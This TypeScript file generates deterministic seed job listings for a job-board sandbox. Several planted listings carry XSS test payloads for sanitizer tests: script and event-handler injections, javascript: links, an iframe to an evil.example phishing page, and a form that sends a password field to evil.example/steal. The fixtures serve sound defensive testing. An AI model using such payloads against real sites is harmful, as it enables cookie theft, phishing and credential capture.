/**
 * Deterministic seed jobs for the Job Space sandbox: the same seed and clock always give the same jobs.
 * A few fixed positions hold special jobs: hostile markup for sanitizer tests, and long or non-Latin
 * text for layout tests. They are posted in the last 12 hours so they show on the first page.
 */
import { seededRandom } from '../faults.js';
import { COUNTRY_BY_ISO, type JobRecord } from './records.js';
import { escapeHtml } from './shapes.js';
import {
  COUNTRY_PROFILES,
  JOB_TYPES,
  LEAF_CATEGORIES,
  ORGANISATIONS,
  type CountryProfile,
  type Organisation,
  type Place,
} from './reference-data.js';
import {
  DUTIES,
  LOCAL_TEXT,
  SENIORITY,
  SKILLS,
  TITLES,
  TYPE_QUALIFIERS,
  type SeedLanguage,
} from './vocabulary.js';

export const FIRST_JOB_ID = 1001;
const DAY = 86_400_000;

/** Positions (0-based) of the special jobs; their ids are FIRST_JOB_ID + position. */
const HOSTILE_POSITIONS = [2, 5, 9, 13] as const;
const LAYOUT_POSITIONS = [4, 7, 11, 15, 18] as const;

/** Jobs whose description, summary, title, benefits or skills carry hostile markup (needs jobCount ≥ 14). */
export const HOSTILE_JOB_IDS: readonly number[] = HOSTILE_POSITIONS.map((p) => FIRST_JOB_ID + p);
/** Jobs with very long titles or Arabic, Chinese and Amharic text (needs jobCount ≥ 19). */
export const LAYOUT_JOB_IDS: readonly number[] = LAYOUT_POSITIONS.map((p) => FIRST_JOB_ID + p);

type Random = () => number;
const pick = <T>(random: Random, list: readonly T[]): T => list[Math.floor(random() * list.length)];
const between = (random: Random, lo: number, hi: number) => lo + (hi - lo) * random();

function pickSome<T>(random: Random, list: readonly T[], n: number): T[] {
  const pool = [...list];
  const out: T[] = [];
  while (out.length < n && pool.length) out.push(pool.splice(Math.floor(random() * pool.length), 1)[0]);
  return out;
}

function pickWeighted<T extends { weight: number }>(random: Random, list: readonly T[]): T {
  const total = list.reduce((sum, x) => sum + x.weight, 0);
  let r = random() * total;
  for (const x of list) {
    r -= x.weight;
    if (r < 0) return x;
  }
  return list[list.length - 1];
}

type Frequency = 'ANNUALLY' | 'MONTHLY' | 'HOURLY' | 'DAILY';

/** Typical pay ranges by country and frequency, in local currency. */
const PAY: Record<string, Partial<Record<Frequency, [number, number]>>> = {
  GB: { ANNUALLY: [22000, 70000], HOURLY: [11.5, 19], DAILY: [300, 650], MONTHLY: [1800, 2600] },
  KE: { MONTHLY: [35000, 400000], DAILY: [1200, 4500], HOURLY: [250, 900], ANNUALLY: [600000, 4800000] },
  ZA: { ANNUALLY: [150000, 900000], MONTHLY: [9000, 75000], HOURLY: [30, 180], DAILY: [900, 4000] },
  NG: { MONTHLY: [120000, 1500000], ANNUALLY: [1800000, 18000000], DAILY: [8000, 40000], HOURLY: [1500, 6000] },
  FR: { ANNUALLY: [24000, 65000], MONTHLY: [1800, 4500], HOURLY: [11.65, 25], DAILY: [300, 700] },
  ES: { ANNUALLY: [18000, 52000], MONTHLY: [1300, 3800], HOURLY: [9, 20], DAILY: [200, 500] },
  BR: { MONTHLY: [1900, 18000], ANNUALLY: [30000, 220000], HOURLY: [12, 80], DAILY: [150, 700] },
  AE: { MONTHLY: [8000, 35000] },
  CN: { MONTHLY: [9000, 40000] },
  ET: { MONTHLY: [6000, 40000] },
};

/** How each country writes money: symbol placement and separators. */
const MONEY: Record<string, { prefix: string; suffix: string; group: string; decimal: string }> = {
  GB: { prefix: '£', suffix: '', group: ',', decimal: '.' },
  KE: { prefix: 'KES ', suffix: '', group: ',', decimal: '.' },
  ZA: { prefix: 'R', suffix: '', group: ' ', decimal: ',' },
  NG: { prefix: '₦', suffix: '', group: ',', decimal: '.' },
  FR: { prefix: '', suffix: ' €', group: ' ', decimal: ',' },
  ES: { prefix: '', suffix: ' €', group: '.', decimal: ',' },
  BR: { prefix: 'R$ ', suffix: '', group: '.', decimal: ',' },
  AE: { prefix: 'AED ', suffix: '', group: ',', decimal: '.' },
  CN: { prefix: '¥', suffix: '', group: ',', decimal: '.' },
  ET: { prefix: 'ETB ', suffix: '', group: ',', decimal: '.' },
};

/** Hand-rolled rather than Intl so Node and browsers render identical text. */
function money(iso: string, amount: number): string {
  const m = MONEY[iso];
  const [whole, cents] = amount.toFixed(Number.isInteger(amount) ? 0 : 2).split('.');
  const grouped = whole.replace(/\B(?=(\d{3})+(?!\d))/g, m.group);
  return `${m.prefix}${grouped}${cents ? m.decimal + cents : ''}${m.suffix}`;
}

function roundPay(amount: number, frequency: Frequency): number {
  if (frequency === 'HOURLY') return Math.round(amount * 4) / 4;
  const step = amount >= 100000 ? 5000 : amount >= 10000 ? 500 : amount >= 1000 ? 50 : 5;
  return Math.round(amount / step) * step;
}

function frequencyFor(iso: string, typeHandle: string): Frequency {
  if (['perm_parttime', 'temporary', 'contract_parttime'].includes(typeHandle)) return iso === 'GB' || iso === 'FR' ? 'HOURLY' : 'MONTHLY';
  if (typeHandle === 'contract_fulltime') return iso === 'GB' ? 'DAILY' : iso === 'ZA' || iso === 'FR' || iso === 'ES' ? 'ANNUALLY' : 'MONTHLY';
  return ['KE', 'NG', 'BR', 'AE', 'CN', 'ET'].includes(iso) ? 'MONTHLY' : 'ANNUALLY';
}

/** Senior or technical categories pay more. */
const PAY_LEVEL: Record<number, number> = {
  300: 0.85, 749: 0.7, 500: 0.75, 2: 0.55, 400: 0.5, 760: 0.65, 780: 0.5, 550: 0.45, 650: 0.12, 620: 0.12, 720: 0.12,
};

function salaryFor(
  random: Random,
  profile: CountryProfile,
  language: SeedLanguage,
  typeHandle: string,
  parentId: number,
): JobRecord['salary'] {
  const entityUnicode = random() < 0.6;
  // Some upstream jobs carry no currency at all: the client must cope with empty strings.
  const currency = random() < 0.11 ? null : profile.currency;
  const text = LOCAL_TEXT[language];
  if (typeHandle === 'volunteer') {
    return { from: 0, to: 0, text: language === 'en' ? 'Unpaid – expenses covered' : text.competitive[0], frequency: 'MONTHLY', currency, entityUnicode };
  }
  let frequency = frequencyFor(profile.iso, typeHandle);
  if (typeHandle === 'internship' || typeHandle === 'apprenticeship') frequency = profile.iso === 'GB' ? 'ANNUALLY' : 'MONTHLY';
  if (random() < 0.12) return { from: null, to: null, text: pick(random, text.competitive), frequency, currency, entityUnicode };
  const [lo, hi] = PAY[profile.iso][frequency] ?? PAY[profile.iso].MONTHLY!;
  const trainee = typeHandle === 'internship' || typeHandle === 'apprenticeship';
  const level = (PAY_LEVEL[parentId] ?? 0.3) * (trainee ? 0.3 : 1);
  const from = roundPay(lo * (trainee ? 0.6 : 1) + (hi - lo) * level * between(random, 0.3, 1), frequency);
  const to = roundPay(from * between(random, 1.1, 1.35), frequency);
  return {
    from,
    to,
    text: `${money(profile.iso, from)} - ${money(profile.iso, to)} ${text.frequency[frequency]}`,
    frequency,
    currency,
    entityUnicode,
  };
}

function locationFor(random: Random, profile: CountryProfile, place: Place) {
  const country = COUNTRY_BY_ISO.get(profile.iso)!;
  const roll = random();
  const display =
    roll < 0.07
      ? `Remote (${country.name})`
      : roll < 0.15
        ? `${place.city} (Hybrid)`
        : profile.iso === 'BR'
          ? `${place.city} - ${place.region}`
          : roll < 0.35
            ? place.city
            : `${place.city}, ${place.region}`;
  return {
    display,
    postcode: place.postcode,
    countryId: country.id,
    lat: place.lat + between(random, -0.04, 0.04),
    lon: place.lon + between(random, -0.04, 0.04),
  };
}

interface Dates {
  openDate: number;
  closeDate: number;
  createdAt: number;
  updatedAt: number;
}

function datesFor(random: Random, now: number, maxAgeDays: number): Dates {
  const createdAt = Math.floor(now - Math.pow(random(), 1.3) * maxAgeDays * DAY - random() * 3_600_000);
  const openDate = Math.floor(createdAt / DAY) * DAY;
  const closeDate = openDate + pick(random, [14, 21, 28, 28, 28, 42, 60]) * DAY;
  const updatedAt = random() < 0.5 ? createdAt : Math.min(now, createdAt + Math.floor(random() * 3 * DAY));
  return { openDate, closeDate, createdAt, updatedAt };
}

function descriptionFor(random: Random, language: SeedLanguage, org: Organisation, title: string, city: string, parentId: number, benefits: string[]) {
  const text = LOCAL_TEXT[language];
  const duties = language === 'en' ? DUTIES[parentId] : text.duties;
  const list = (items: string[], ordered = false) =>
    `<${ordered ? 'ol' : 'ul'}>${items.map((i) => `<li>${escapeHtml(i)}</li>`).join('')}</${ordered ? 'ol' : 'ul'}>`;
  const careers = `https://${org.handle}.example/careers`;
  return [
    `<p>${text.intro(escapeHtml(org.name), escapeHtml(title), escapeHtml(city))}</p>`,
    `<h3>${text.headings.role}</h3>`,
    list(pickSome(random, duties, 3 + Math.floor(random() * 2)), random() < 0.2),
    `<h3>${text.headings.profile}</h3>`,
    list(pickSome(random, text.requirements, 3)),
    `<h3>${text.headings.offer}</h3>`,
    `<p>${benefits.map(escapeHtml).join(' · ')}</p>`,
    `<p>${text.apply} <a href="${careers}">${escapeHtml(org.name)}</a>.</p>`,
  ].join('\n');
}

const referenceFor = (organisationId: number, jobId: number) =>
  `${ORGANISATIONS.find((o) => o.id === organisationId)!.handle.split('-')[0].toUpperCase()}-${String(jobId).padStart(5, '0')}`;

function regularJob(random: Random, index: number, now: number, categoryOffset: number, iso?: string): JobRecord {
  const profile = iso
    ? COUNTRY_PROFILES.find((p) => p.iso === iso)!
    : pickWeighted(random, COUNTRY_PROFILES.filter((p) => p.weight > 0));
  // Arabic, Chinese and Amharic jobs are special ones that bring their own text; generate English underneath.
  const language: SeedLanguage = profile.language in LOCAL_TEXT ? (profile.language as SeedLanguage) : 'en';
  const org = pick(random, ORGANISATIONS.filter((o) => o.iso === profile.iso));
  const place = pick(random, profile.places);
  // Stride 11 is coprime with the number of leaves, so every category turns up in any run of that many jobs.
  const category = LEAF_CATEGORIES[(index * 11 + categoryOffset) % LEAF_CATEGORIES.length];
  const type =
    index % 37 < JOB_TYPES.length
      ? JOB_TYPES[index % 37]
      : pickWeighted(random, JOB_TYPES.map((t, i) => ({ ...t, weight: [50, 12, 10, 3, 6, 5, 3, 2][i] })));
  const langIndex = { en: 0, fr: 1, es: 2, pt: 3 }[language];
  let title = pick(random, TITLES[category.id])[langIndex];
  if (language === 'en' && type.handle === 'perm_fulltime' && random() < 0.25) title = pick(random, SENIORITY) + title;
  title += TYPE_QUALIFIERS[type.handle]?.[language] ?? '';
  const parentId = category.parentId!;
  const benefits = pickSome(random, LOCAL_TEXT[language].benefits, 3);
  const skills = pickSome(random, SKILLS[parentId], 3);
  const id = FIRST_JOB_ID + index;
  return {
    id,
    organisationId: org.id,
    reference: referenceFor(org.id, id),
    numberApplied: Math.floor(Math.pow(random(), 2) * 150),
    title,
    summary: LOCAL_TEXT[language].summary(org.name, title, place.city),
    description: descriptionFor(random, language, org, title, place.city, parentId, benefits),
    benefits: random() < 0.15 ? null : benefits.join(', '),
    skills: random() < 0.15 ? null : skills.join(', '),
    salary: salaryFor(random, profile, language, type.handle, parentId),
    location: locationFor(random, profile, place),
    language: profile.language,
    categoryId: category.id,
    typeId: type.id,
    ...datesFor(random, now, 60),
    address: { premise: '', subPremise: '', thoroughfare: '', locality: '', mainArea: place.city, subArea: place.region },
    applyType: random() < 0.3 ? 'REDIRECT' : 'SIGNUP',
    applyUrl: null,
    sites: [1],
  };
}

/** A special job: the country it is generated in, and the fields that replace the generated ones. */
interface Special {
  iso: string;
  fields: () => Partial<JobRecord>;
}

const placeIn = (iso: string) => COUNTRY_PROFILES.find((p) => p.iso === iso)!.places[0];
const locatedIn = (iso: string, display: string): JobRecord['location'] => {
  const place = placeIn(iso);
  return { display, postcode: place.postcode, countryId: COUNTRY_BY_ISO.get(iso)!.id, lat: place.lat, lon: place.lon };
};

const SPECIALS: Record<number, Special> = {
  2: {
    iso: 'KE',
    fields: () => ({
      categoryId: 721,
      title: 'Customer Service Advisor – Evening Shift',
      summary: 'Great team! <img src=x onerror="alert(\'summary\')"> Apply today.',
      description: [
        '<p>Join our <strong>award-winning</strong> contact centre.</p>',
        '<script>alert("xss-script")</script>',
        '<p><img src="x" onerror="alert(\'xss-img\')" alt="team photo"></p>',
        '<p>Read our <a href="javascript:alert(\'xss-link\')">benefits guide</a>.</p>',
        '<ul><li>Answer calls</li><li onclick="alert(1)">Solve problems</li></ul>',
      ].join('\n'),
    }),
  },
  5: {
    iso: 'GB',
    fields: () => ({
      categoryId: 621,
      title: 'Warehouse Team Leader',
      summary: 'Lead a friendly warehouse team on a 4-on, 4-off shift pattern.',
      description: [
        '<p>Lead a team of 12 in our <em>new</em> distribution centre.</p>',
        '<iframe src="https://evil.example/phish" width="600" height="400"></iframe>',
        '<svg onload="alert(\'xss-svg\')"><circle r="10"></circle></svg>',
        '<div style="width: expression(alert(\'xss-css\')); background: url(javascript:alert(1))">Shift pattern: 4 on, 4 off.</div>',
        '<object data="https://evil.example/flash.swf"></object><embed src="https://evil.example/e.swf">',
        '<form action="https://evil.example/steal"><input name="password" autofocus onfocus="alert(\'xss-focus\')"></form>',
        '<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")></style></mglyph></table></mtext></math>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
      ].join('\n'),
    }),
  },
  9: {
    iso: 'ZA',
    fields: () => ({
      categoryId: 621,
      title: '<img src=x onerror=alert("title")> Forklift Driver',
      summary: '"><script>alert(document.cookie)</script> Immediate start.',
      description: [
        '<p>Night shifts, <b>paid weekly</b>.</p>',
        '<p><a href="JaVaScRiPt:alert(\'mixed-case\')">Click for rota</a> or <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">download</a>.</p>',
        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
        '<style>body { display: none !important; }</style>',
        '<p onmouseover="alert(\'hover\')">Hover over me.</p>',
        '<button formaction="javascript:alert(1)">Apply</button>',
      ].join('\n'),
    }),
  },
  13: {
    iso: 'NG',
    fields: () => ({
      categoryId: 403,
      title: 'Community Health Volunteer Coordinator',
      summary: 'Coordinate community health volunteers and keep our outreach running smoothly.',
      benefits: 'Lunch provided <script>alert("benefits")</script>',
      skills: '<img src=x onerror=alert("skills")>First aid',
      description: [
        '<p>Coordinate 40 volunteers across the county.</p>',
        '<p>Escaped text must stay text: &lt;script&gt;alert(1)&lt;/script&gt;</p>',
        '<p><a href="https://evil.example" target="_blank">Partner site</a> (opens in a new tab).</p>',
        '<p><img src="https://tracker.example/pixel.gif" width="1" height="1" alt=""></p>',
        '<p><a href="vbscript:msgbox(1)">Old browsers</a></p>',
      ].join('\n'),
    }),
  },
  4: {
    iso: 'GB',
    fields: () => ({
      categoryId: 301,
      location: locatedIn('GB', 'London (Hybrid)'),
      summary: 'Shape the architecture of a payments platform used in 40 countries.',
      description:
        '<p>You will own the <strong>end-to-end architecture</strong> of our payments platform.</p>\n' +
        '<ul><li>Set technical direction across eight teams</li><li>Review designs for security and resilience</li></ul>',
      title:
        'Senior Principal Enterprise Solutions Architect for Cloud-Native Distributed Payment Infrastructure, ' +
        'Regulatory Reporting, Anti-Money-Laundering Analytics and Cross-Border Settlement Platforms (EMEA, Hybrid)',
    }),
  },
  7: {
    iso: 'AE',
    fields: () => ({
      categoryId: 301,
      language: 'ar',
      title: 'مهندس برمجيات أول – تطوير تطبيقات الهاتف المحمول',
      summary: 'تبحث شركة أفق الخليج للتجارة عن مهندس برمجيات أول للانضمام إلى فريقها في دبي.',
      description:
        '<p dir="rtl">نبحث عن <strong>مهندس برمجيات</strong> شغوف لبناء تطبيقات عالية الجودة.</p>\n' +
        '<ul dir="rtl"><li>تصميم وتطوير الميزات الجديدة</li><li>مراجعة الشيفرة البرمجية</li><li>العمل مع فريق المنتج</li></ul>',
      location: locatedIn('AE', 'دبي، الإمارات العربية المتحدة'),
      salary: { from: 25000, to: 32000, text: 'AED 25,000 - AED 32,000 شهريًا', frequency: 'MONTHLY', currency: 'AED', entityUnicode: false },
    }),
  },
  11: {
    iso: 'CN',
    fields: () => ({
      categoryId: 6,
      language: 'zh',
      title: '高级数据分析师（供应链方向）',
      summary: '浦东物流有限公司诚聘高级数据分析师，负责供应链数据建模与可视化。',
      description:
        '<p>我们正在寻找一位<strong>高级数据分析师</strong>加入上海团队。</p>\n' +
        '<ul><li>负责供应链数据分析与建模</li><li>搭建可视化报表</li><li>与业务团队紧密合作</li></ul>',
      location: locatedIn('CN', '上海市浦东新区'),
      salary: { from: 25000, to: 35000, text: '¥25,000 - ¥35,000 每月', frequency: 'MONTHLY', currency: 'CNY', entityUnicode: true },
    }),
  },
  15: {
    iso: 'ET',
    fields: () => ({
      categoryId: 403,
      language: 'am',
      title: 'የማህበረሰብ ጤና ባለሙያ',
      summary: 'የአቢሲኒያ የእርዳታ ማህበር በአዲስ አበባ የማህበረሰብ ጤና ባለሙያ ይፈልጋል።',
      description:
        '<p>የማህበረሰብ ጤና ባለሙያ <strong>እንፈልጋለን</strong>።</p>\n' +
        '<ul><li>የጤና ትምህርት መስጠት</li><li>የቤት ለቤት ጉብኝት ማድረግ</li><li>ሪፖርት ማዘጋጀት</li></ul>',
      location: locatedIn('ET', 'አዲስ አበባ'),
      salary: { from: 12000, to: 15000, text: 'ETB 12,000 - ETB 15,000 በወር', frequency: 'MONTHLY', currency: 'ETB', entityUnicode: false },
    }),
  },
  18: {
    iso: 'GB',
    fields: () => ({
      categoryId: 750,
      summary: 'Analyse dust samples in our accredited respiratory research laboratory.',
      description: '<p>Prepare and analyse samples under <abbr title="Good Laboratory Practice">GLP</abbr>.</p>',
      title: 'Pneumonoultramicroscopicsilicovolcanoconiosis-Research-Laboratory-Technician-Level-III',
      location: {
        ...locatedIn('GB', ''),
        display:
          'Unit 14B, The Old Biscuit Factory Innovation and Enterprise Campus, Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch, Anglesey',
      },
    }),
  },
};

export interface SeedOptions {
  count: number;
  seed: number;
  now: number;
}

export function seedJobs({ count, seed, now }: SeedOptions): JobRecord[] {
  const random = seededRandom(seed);
  const categoryOffset = Math.floor(random() * LEAF_CATEGORIES.length);
  const jobs: JobRecord[] = [];
  for (let index = 0; index < count; index++) {
    const special = SPECIALS[index];
    const job = regularJob(random, index, now, categoryOffset, special?.iso);
    jobs.push(special ? { ...job, ...special.fields(), ...datesFor(random, now, 0.5) } : job);
  }
  return jobs;
}

